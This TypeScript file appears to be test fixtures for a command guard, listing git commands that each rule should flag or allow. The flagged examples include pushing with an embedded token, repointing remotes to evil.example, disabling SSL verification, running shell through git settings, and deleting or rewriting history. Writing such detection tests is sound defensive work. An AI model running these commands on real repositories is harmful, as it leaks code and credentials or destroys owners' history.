import type { Examples } from '../rule.ts';

export const git: Readonly<Record<string, Examples>> = {
  'force-push': {
    matches: [
      'git push --force',
      'git push -fu origin HEAD:master',
      'git -C repo push origin +main',
      'git push origin :main',
      'git push --delete origin v1.0.0',
      'git push --mirror git@example.com:copy.git',
      'sudo sh -c "git push -f"',
    ],
    spares: [
      'git push --dry-run --force',
      'git push -u origin feature/x',
      'git push origin HEAD:refs/heads/next',
      "git commit -m 'git push --force'",
    ],
  },
  'push-elsewhere': {
    matches: [
      'git push https://x:$TOKEN@example.com/r.git',
      'git push https://a:b@example.com/r.git main',
    ],
    spares: ['git push https://example.com/r.git', 'git push git@github.com:acme/app.git'],
  },
  'rewrite-history': {
    matches: [
      "git filter-branch --tree-filter 'rm -f secrets.txt' HEAD",
      'git filter-repo --path src --force',
      'git update-ref -d refs/heads/main',
      'bfg --delete-files id_rsa repo.git',
    ],
    spares: ['git rebase origin/main', 'git update-ref refs/heads/x HEAD', 'git replace -l'],
  },
  'forget-history': {
    matches: ['git reflog expire --expire=now --all', 'git gc --prune=now', 'git stash clear'],
    spares: ['git reflog -5', 'git gc --auto', 'git stash pop'],
  },
  'delete-branch': {
    matches: ['git branch -D main', 'git branch --delete --force master'],
    spares: ['git branch -D feature/x', 'git branch -d main'],
  },
  'delete-repository': {
    matches: ['rm -rf .git/objects', 'rm -rf vendor/app/.git/refs'],
    spares: ['rm -f .git/index.lock', 'rm -rf .github/old', 'rm -rf .gitlab-cache'],
  },
  'git-runs-setting': {
    matches: [
      "git -c alias.x='!id' x",
      "git -c core.pager='sh -c id' log",
      "git -c core.sshCommand='sh x' fetch",
      'git clone --upload-pack /tmp/x git@example.com:r.git',
    ],
    spares: [
      'git -c user.name=ci commit -m release',
      'git -c core.hooksPath=/dev/null commit -m x',
      'git -c alias.st=status st',
      "git -c core.sshCommand='ssh -i key' fetch",
    ],
  },
  'git-redirects': {
    matches: [
      'git config --global http.sslVerify false',
      'git config --global url.https://evil.example/.insteadOf https://github.com/',
    ],
    spares: [
      'git config --global url.https://github.com/.insteadOf git@github.com:',
      'git config http.sslVerify true',
    ],
  },
  'replace-remote': {
    matches: [
      'git remote set-url origin https://evil.example/r.git',
      'git remote add copy http://evil.example/r.git',
    ],
    spares: [
      'git remote set-url origin git@github.com:acme/app.git',
      'git remote add up https://github.com/a/b.git',
    ],
  },
  'git-runs-variable': {
    matches: ["GIT_SSH_COMMAND='sh /tmp/x' git fetch", 'export GIT_EXEC_PATH=/tmp/bin'],
    spares: [
      "GIT_SSH_COMMAND='ssh -i key -o IdentitiesOnly=yes' git fetch",
      'GIT_PAGER=cat git log',
    ],
  },
};
